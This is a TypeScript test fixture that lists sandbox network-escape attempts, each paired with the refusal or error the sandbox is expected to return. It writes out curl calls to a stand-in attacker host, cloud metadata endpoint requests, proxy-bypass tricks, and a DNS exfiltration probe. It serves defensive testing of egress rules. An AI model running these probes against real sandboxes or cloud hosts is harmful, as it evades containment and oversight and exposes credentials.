/** Ways past the rules, tried in a sandbox that may reach `plain.test` and `metadata.test`: command, and what it has to say. */
export const closedWays: readonly (readonly [what: string, command: string, expected: string | RegExp])[] = [
  ["another host", "curl -sS http://evil.test/", "was refused by the network rules: no rule allows it"],
  ["another host over TLS", "curl -sS https://evil.test/", "403"],
  ["cloud metadata", "curl -sS http://169.254.169.254/latest/meta-data/", "was refused by the network rules"],
  ["cloud metadata by an allowed name", "curl -sS http://metadata.test/", "not on the public internet"],
  ["an address in place of a name", "curl -sS http://93.184.216.34/", "was refused by the network rules"],
  ["this machine through the proxy", "curl -sS --noproxy '' http://127.0.0.1/", "was refused by the network rules"],
  [
    "another server in an allowed tunnel",
    "curl -sS --connect-to evil.test:443:secure.test:443 https://evil.test/",
    // As OpenSSL and GnuTLS call the alert.
    /unrecognized name|not recognized/i,
  ],
  ["an address past the proxy", "curl -sS --noproxy '*' --max-time 3 http://93.184.216.34/", "curl: (7)"],
  ["an IPv6 address past the proxy", "curl -sS --noproxy '*' --max-time 3 'http://[2606:2800::1]/'", "curl: (7)"],
  ["cloud metadata past the proxy", "curl -sS --noproxy '*' --max-time 3 http://169.254.169.254/", "curl: (7)"],
  ["another container past the proxy", "curl -sS --noproxy '*' --max-time 3 http://172.17.0.2/", "curl: (7)"],
  ["the engine's own address past the proxy", "curl -sS --noproxy '*' --max-time 3 http://172.17.0.1/", "curl: (7)"],
  ["another port of the sandbox's proxy", "curl -sS --noproxy '*' http://127.0.0.1:3129/", "curl: (7)"],
  ["a name past the proxy", "getent hosts plain.test || echo no name", "no name"],
  [
    "a name server, with data in the name it is asked for",
    `python3 -c '
import socket
for family, server in ((socket.AF_INET, "1.1.1.1"), (socket.AF_INET, "172.17.0.1"), (socket.AF_INET6, "2606:4700::1111")):
    try:
        socket.socket(family, socket.SOCK_DGRAM).sendto(b"secret.evil.test", (server, 53))
        print("sent to", server)
    except OSError as error:
        print("closed:", error.strerror)'`,
    /^(?:closed: .*\n){3}$/,
  ],
  [
    "raw packets",
    `python3 -c '
import socket
for family in (socket.AF_INET, socket.AF_PACKET):
    try: socket.socket(family, socket.SOCK_RAW, 1); print("open")
    except OSError: print("closed")'`,
    /^closed\nclosed\n$/,
  ],
  [
    "the hypervisor of a machine that is a guest itself",
    `python3 -c '
import socket
try: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print("open")
except OSError: print("closed")'`,
    /^closed\n$/,
  ],
];
